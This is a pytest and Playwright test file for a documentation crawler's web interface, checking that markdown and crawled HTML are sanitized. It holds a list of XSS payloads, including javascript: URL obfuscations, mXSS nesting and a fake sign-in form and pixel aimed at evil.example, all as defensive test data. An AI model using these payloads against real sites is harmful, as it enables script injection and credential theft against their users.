"""Manuals that attack whoever reads them: nothing runs, nothing leaves, nothing looks like our own page."""

import re

import pytest
from playwright.async_api import expect

from docspasta_mcp.server.ui.markdown_html import parse, to_html
from docspasta_mcp.server.wiring import Node
from tests.server.ui.conftest import Opened, crawled
from tests.sites import Answer, Site

pytestmark = pytest.mark.programs

SCRIPT = "<script>alert(1)</script>"


@pytest.mark.parametrize(
    "attack",
    [
        SCRIPT,
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](vbscript:x) [x](data:text/html;base64,PHNjcmlwdD4=)",
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href=" javascript:alert(1)">x</a>',
        '<form action="https://evil.example"><input name=token><button>Sign in</button></form>',
        '<div style="position:fixed;inset:0" class="problem" id="reader">x</div>',
        '<a href="/ui/jobs/1/delete" hx-post="/ui/jobs/1/delete" hx-trigger="load">x</a>',
        '<iframe src="https://evil.example"></iframe><base href="https://evil.example">',
        "![x](https://evil.example/pixel.png)",
        '<meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href=//evil.example>',
        "```html\n</code></pre><script>alert(1)</script>\n```",
        '```"><script>alert(1)</script>\nx\n```',
        "| a |\n|--|\n| <script>alert(1)</script> |",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    ],
)
def test_markdown_is_clean_whatever_it_says(attack: str) -> None:
    html = to_html(parse(f"# Title\n{attack}\n"), {}).lower()
    for sign in (
        "<script",
        "<img",
        "<svg",
        "<form",
        "<input",
        "<button",
        "<iframe",
        "<base",
        "<meta",
        "<link",
        "<style",
    ):
        assert sign not in html
    for sign in (
        "style=",
        'class="problem',
        "id=",
        "hx-post",
        'href="/ui',
        'href="javascript',
        'href="data',
        'href=" ',
    ):
        assert sign not in html
    assert " onerror=" not in html or "&lt;img" in html


def test_links_within_the_manual_stay_in_it_and_pictures_become_links() -> None:
    parsed = parse("# T\n[a](https://d.example/a) [b](https://else.example/) ![map](https://d.example/m.png)\n")
    assert parsed.urls == ("https://d.example/a", "https://else.example/")
    html = to_html(parsed, {"https://d.example/a": "/ui/jobs/1/pages/2"})
    assert '<a href="/ui/jobs/1/pages/2" rel="noopener noreferrer nofollow">a</a>' in html
    assert '<a href="https://d.example/m.png" rel="noopener noreferrer nofollow">[picture: map]</a>' in html


def test_headings_stand_below_the_page_s_own_without_gaps() -> None:
    html = to_html(parse("# T\n#### a\n# b\n### c\n###### d\n## e\n"), {})
    assert re.findall(r"<(h\d)>(\w)", html) == [("h2", "a"), ("h2", "b"), ("h3", "c"), ("h4", "d"), ("h3", "e")]


async def test_nothing_of_a_hostile_manual_runs_or_leaves(
    open_page: Opened, base: str, ui_node: Node, manual_site: Site
) -> None:
    evil = "https://evil.example"
    title = f"&lt;script&gt;alert(1)&lt;/script&gt; \u202etxt.exe {'x' * 1_000_000}"
    text = "This manual wants to be read by people whose browser it would like to own, so it says a good many things. "
    body = (
        f"<p>{text}</p><p>{SCRIPT}<img src='{evil}/p.png' onerror=alert(1)><a href='javascript:alert(1)'>js</a>"
        f"<a href='{evil}'>out</a></p><pre><code class=language-html>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>"
    )
    links = "<nav><a href='/hostile/?q=%22onmouseover=alert(1)'>a</a><a href='/hostile/two'>b</a></nav>"
    html = f"<html lang='\"><script>alert(1)</script>'><title>{title}</title><body>{links}<main><h1>{title}</h1>{body}</main>"
    manual_site.pages.update({"/hostile/": html, "/hostile/two": Answer(html)})
    job_id = await crawled(ui_node, f"{manual_site.url}/hostile/", scope="prefix")
    for javascript in (True, False):
        page = await open_page(base, java_script_enabled=javascript)
        for path in ("", "/coverage", "/downloads", "/search?query=script", "/contents?words=script", "?view=both"):
            await page.goto(f"/ui/jobs/{job_id}{path}")
            await expect(page.locator("main")).to_be_visible()
            assert await page.locator("script:not([src])").count() == 0
    assert len(await (await open_page(base)).content()) < 100_000
